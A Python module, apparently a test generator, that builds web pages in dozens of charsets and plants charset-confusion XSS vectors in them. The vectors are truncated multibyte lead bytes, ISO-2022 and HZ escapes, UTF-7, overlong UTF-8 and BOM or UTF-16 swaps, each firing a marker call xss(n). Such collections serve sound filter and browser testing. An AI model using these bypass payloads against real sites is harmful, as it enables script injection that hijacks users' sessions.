"""Pages whose bytes mean a script to one reader and words to another: the charset is declared, the trick is put in for
a mark after the rest of the page has been encoded."""

from __future__ import annotations

from collections.abc import Iterator

import attrs

MARK = "VEKTOR"


@attrs.frozen
class Odd:
    """A page of another charset; ``number`` is the vector's."""

    number: int
    charset: str
    codec: str
    """What Python calls that of the rest of the page."""
    trick: bytes
    before: bytes = b""

    def encoded(self, page: str) -> bytes:
        """``page`` in bytes, the trick at each mark."""
        body = page.replace("UTF-8", self.charset).encode(self.codec, "replace")
        return self.before + body.replace(MARK.encode(self.codec), self.trick)


_TRICKS: tuple[tuple[str, str, bytes], ...] = (
    # a first byte without its second: does it eat the quote, the bracket?
    ("gb18030", "gb18030", b'\xbf"><img src=x: onerror=@>'),
    ("gb18030", "gb18030", b"\x81<script>@</script>"),
    ("gb18030", "gb18030", b"\x84\x31\xa4\x37<script>@</script>"),
    ("gb18030", "gb18030", b'\x81\x30"><img src=x: onerror=@>'),
    ("gb18030", "gb18030", b'\x81\x30\x81"><img src=x: onerror=@>'),
    ("gbk", "gbk", b"\x80<img src=x: onerror=@>\xff"),
    ("gbk", "gbk", b"\xbf\x5c' onclick=@ '"),
    ("gb2312", "gb18030", b"\xa3\xbcscript\xa3\xbe@\xa3\xbc/script\xa3\xbe"),
    ("big5", "big5", b'\xa5\x5c"><img src=x: onerror=@>'),
    ("big5", "big5", b'\x83"><img src=x: onerror=@>'),
    ("shift_jis", "shift_jis", b'\x82"><img src=x: onerror=@>'),
    ("euc-kr", "euc_kr", b'\xc8"><img src=x: onerror=@>'),
    ("euc-jp", "euc_jp", b'\x8f\xa1"><img src=x: onerror=@>'),
    # escapes between which the bytes of one charset are letters of another
    ("iso-2022-jp", "iso2022_jp", b"\x1b(J<img src=x: onerror=@>\x1b(B"),
    ("iso-2022-jp", "iso2022_jp", b'\x1b$B"\x1b(B"><img src=x: onerror=@>'),
    ("iso-2022-jp", "iso2022_jp", b'\\" onclick=@ \x1b(J\\"'),
    ("iso-2022-kr", "utf-8", b"\x1b$)C\x0e<script>@</script>\x0f"),
    ("hz-gb-2312", "utf-8", b"~{<script>@</script>~}"),
    ("hz-gb-2312", "utf-8", b'~\n"><script>@</script>~~'),
    # letters that are none in this charset
    ("utf-7", "utf-7", b"+ADw-script+AD4-@+ADw-/script+AD4-"),
    ("utf-7", "utf-8", b"+/v8-+ADw-img src=x: onerror=@+AD4-"),
    ("us-ascii", "utf-8", b"\xbcscript\xbe@\xbc/script\xbe"),
    ("utf-8", "utf-8", b"\xc0\xbcscript\xc0\xbe@\xc0\xbc/script\xc0\xbe"),
    ("utf-8", "utf-8", b"\xe0\x80\xbcimg src=x: onerror=@\xe0\x80\xbe"),
    ("utf-8", "utf-8", b"\xf0\x80\x80\xbcimg src=x: onerror=@\xf0\x80\x80\xbe"),
    ("utf-8", "utf-8", b'\xc2"><img src=x: onerror=@>'),
    ("utf-8", "utf-8", b'\xe4\xb8"><img src=x: onerror=@>'),
    ("utf-8", "utf-8", b"\xed\xa0\x80<img src=x: onerror=@>\xed\xb0\x80"),
    ("utf-8", "utf-8", b"<\x00s\x00cript>@</script>"),
    ("utf-8", "utf-8", b"\xef\xbb\xbf<script>@</script>"),
    ("utf-8", "utf-8", b"\xef\xbc\x9cscript\xef\xbc\x9e@\xef\xbc\x9c/script\xef\xbc\x9e"),
    ("x-user-defined", "utf-8", b"\xbcscript\xbe@"),
    ("cp037", "utf-8", "<script>".encode("cp037") + b"@" + "</script>".encode("cp037")),
    ("x-mac-farsi", "utf-8", b"\xbcscript\xbe@\xbc/script\xbe"),
    ("unicode_escape", "utf-8", b"\\u003cscript\\u003e@\\u003c/script\\u003e"),
    ("rot_13", "utf-8", b"<fpevcg>@</fpevcg>"),
)
_WHOLE: tuple[tuple[str, str, bytes], ...] = (
    ("utf-16le", "utf-16-le", b""),
    ("utf-16be", "utf-16-be", b""),
    ("utf-16", "utf-16-le", b"\xff\xfe"),
    ("gb18030", "utf-16-be", b"\xfe\xff"),
    ("utf-32", "utf-32-le", b"\xff\xfe\x00\x00"),
    ("gb18030", "gb18030", b"\x84\x31\x95\x33"),
    ("gbk", "utf-8", b"\xef\xbb\xbf"),
)


def odd_pages(first: int) -> Iterator[Odd]:
    """Each with its own number, from ``first`` on."""
    for number, (charset, codec, trick) in enumerate(_TRICKS, start=first):
        run = f"xss({number})".encode()
        yield Odd(number, charset, codec, trick.replace(b"@", run))
    for number, (charset, codec, before) in enumerate(_WHOLE, start=first + len(_TRICKS)):
        yield Odd(number, charset, codec, f"<script>xss({number})</script>".encode(codec), before)
